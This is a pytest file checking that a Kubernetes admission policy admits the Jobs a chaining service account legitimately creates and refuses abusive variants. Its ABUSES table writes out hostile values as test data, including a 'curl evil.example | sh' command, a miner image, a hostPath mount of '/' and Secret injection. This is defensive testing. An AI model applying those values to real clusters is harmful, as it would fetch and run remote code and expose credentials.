"""The ValidatingAdmissionPolicy on the chaining service account's Jobs (k8s/base/
chaining-admission.yaml): its CEL, evaluated here with a CEL implementation (cel-python) the way
the API server evaluates it (variables in order, then every validation), admits every Job that
chaining makes from the rendered CronJobs and refuses each way of turning `create jobs` into
something else. The objects are valid Kubernetes (test_render.py validates every rendered object
strictly); that the API server admits the chained Jobs on a real cluster is test_cluster.py's."""

from __future__ import annotations

import copy
import uuid
from collections.abc import Callable
from typing import Any

import celpy
import pytest

from jobs.common import chaining
from jobs.common.chaining import Start, Upstream

from .manifests import CHAINING_JOBS, JOBS, NAMESPACE, find, overlays, render

POLICY = "handoff-chained-jobs"
CHAINER = f"system:serviceaccount:{NAMESPACE}:handoff-chainer"
PINS = {
    "training": {"train_version": "4", "test_version": "4"},
    "batch-inference": {"model_version": "7", "partition": "2026-11-25"},
    "deployment": {"model_version": "7"},
}
UPSTREAM = Upstream("training", "7", str(uuid.UUID(int=7)))
_cel = celpy.Environment()


def evaluate(expression: str, activation: dict[str, Any]) -> Any:
    return _cel.program(_cel.compile(expression)).evaluate(activation)


def policy(objects: list[dict[str, Any]]) -> dict[str, Any]:
    return find(objects, "ValidatingAdmissionPolicy", POLICY)["spec"]


def refusals(spec: dict[str, Any], job: dict[str, Any], user: str = CHAINER) -> list[str] | None:
    """The messages of the validations ``job`` fails (an evaluation error fails too: the policy
    is failurePolicy Fail); None when the policy does not match the request at all."""
    request = {"namespace": NAMESPACE, "userInfo": {"username": user}, "operation": "CREATE"}
    activation: dict[str, Any] = {
        "object": celpy.json_to_cel(job),
        "request": celpy.json_to_cel(request),
    }
    if not all(evaluate(c["expression"], activation) for c in spec["matchConditions"]):
        return None
    variables = celpy.celtypes.MapType()
    for variable in spec["variables"]:
        activation["variables"] = variables
        variables[celpy.celtypes.StringType(variable["name"])] = evaluate(
            variable["expression"], activation
        )
    failed = []
    for validation in spec["validations"]:
        try:
            passed = evaluate(validation["expression"], activation)
        except celpy.CELEvalError:
            passed = False
        if not (isinstance(passed, celpy.celtypes.BoolType) and passed):
            failed.append(validation["message"])
    return failed


def chained_jobs(overlay: str) -> dict[str, dict[str, Any]]:
    """What chaining creates from each downstream CronJob of the overlay, by job."""
    objects = render(overlay)
    made = {}
    for job in {j for jobs in CHAINING_JOBS.values() for j in jobs}:
        cronjob = find(objects, "CronJob", JOBS[job])
        cronjob["metadata"]["uid"] = str(uuid.uuid5(uuid.NAMESPACE_DNS, JOBS[job]))
        dashed = job.replace("_", "-")
        made[dashed] = chaining.job_from_cronjob(cronjob, Start(dashed, UPSTREAM, PINS[dashed]))
    return made


@pytest.mark.parametrize("overlay", overlays())
def test_every_job_chaining_makes_is_admitted(overlay: str) -> None:
    spec = policy(render(overlay))
    for job, body in chained_jobs(overlay).items():
        assert refusals(spec, body) == [], job


def test_only_the_chaining_service_accounts_requests_are_checked() -> None:
    spec = policy(render("dev"))
    anything = {"metadata": {"name": "x"}, "spec": {"template": {"spec": {"containers": []}}}}
    assert refusals(spec, anything, user="kubernetes-admin") is None
    assert refusals(spec, anything, user="system:serviceaccount:handoff:handoff-deployer") is None
    assert refusals(spec, anything) != []


def _container(job: dict[str, Any]) -> dict[str, Any]:
    return job["spec"]["template"]["spec"]["containers"][0]


# Each a way to abuse `create jobs`, made from a Job chaining really makes (by its job).
ABUSES: dict[str, tuple[str, Callable[[dict[str, Any]], None]]] = {
    "no owner": ("training", lambda j: j["metadata"].pop("ownerReferences")),
    "owned by another CronJob": (
        "training",
        lambda j: j["metadata"]["ownerReferences"][0].update(name="handoff-stack-bootstrap"),
    ),
    "another image": ("training", lambda j: _container(j).update(image="evil.example/miner:1")),
    "another job's image": (
        "batch-inference",
        lambda j: _container(j).update(image="handoff-deployment:dev"),
    ),
    "a shell instead of the job": (
        "training",
        lambda j: _container(j).update(command=["sh", "-c", "curl evil.example | sh"]),
    ),
    "another config file": (
        "deployment",
        lambda j: _container(j)["args"].__setitem__(1, "/tmp/mine.yaml"),
    ),
    "a flag chaining never adds": (
        "batch-inference",
        lambda j: _container(j)["args"].extend(["--input", "s3://elsewhere/"]),
    ),
    "the deployer's service account": (
        "batch-inference",
        lambda j: j["spec"]["template"]["spec"].update(serviceAccountName="handoff-deployer"),
    ),
    "a Secret volume": (
        "training",
        lambda j: j["spec"]["template"]["spec"]["volumes"].append(
            {"name": "s", "secret": {"secretName": "handoff-object-store"}}
        ),
    ),
    "a host path": (
        "training",
        lambda j: j["spec"]["template"]["spec"]["volumes"].append(
            {"name": "h", "hostPath": {"path": "/"}}
        ),
    ),
    "another Secret in the environment": (
        "deployment",
        lambda j: _container(j)["env"].append(
            {
                "name": "X",
                "valueFrom": {"secretKeyRef": {"name": "handoff-object-store", "key": "k"}},
            }
        ),
    ),
    "a whole Secret as environment": (
        "deployment",
        lambda j: _container(j).update(envFrom=[{"secretRef": {"name": "handoff-mysql"}}]),
    ),
    "a second container": (
        "training",
        lambda j: j["spec"]["template"]["spec"]["containers"].append(
            {"name": "x", "image": "handoff-training:dev"}
        ),
    ),
    "an init container": (
        "training",
        lambda j: j["spec"]["template"]["spec"].update(
            initContainers=[{"name": "x", "image": "busybox"}]
        ),
    ),
}


@pytest.mark.parametrize("abuse", sorted(ABUSES))
def test_a_job_that_is_not_what_chaining_makes_is_refused(abuse: str) -> None:
    job, change = ABUSES[abuse]
    spec = policy(render("dev"))
    body = copy.deepcopy(chained_jobs("dev")[job])
    assert refusals(spec, body) == []
    change(body)
    assert refusals(spec, body), f"{abuse} is admitted"


@pytest.mark.parametrize("overlay", overlays())
def test_the_policy_is_bound_denies_and_fails_closed(overlay: str) -> None:
    objects = render(overlay)
    spec = policy(objects)
    assert spec["failurePolicy"] == "Fail"
    assert spec["matchConstraints"]["resourceRules"] == [
        {
            "apiGroups": ["batch"],
            "apiVersions": ["v1"],
            "operations": ["CREATE"],
            "resources": ["jobs"],
        }
    ]
    binding = find(objects, "ValidatingAdmissionPolicyBinding", POLICY)["spec"]
    assert binding["policyName"] == POLICY and binding["validationActions"] == ["Deny"]
    # The Role's `create jobs` is what the policy narrows: same service account.
    [subject] = find(objects, "RoleBinding", "handoff-chainer")["subjects"]
    assert CHAINER.endswith(":" + subject["name"])
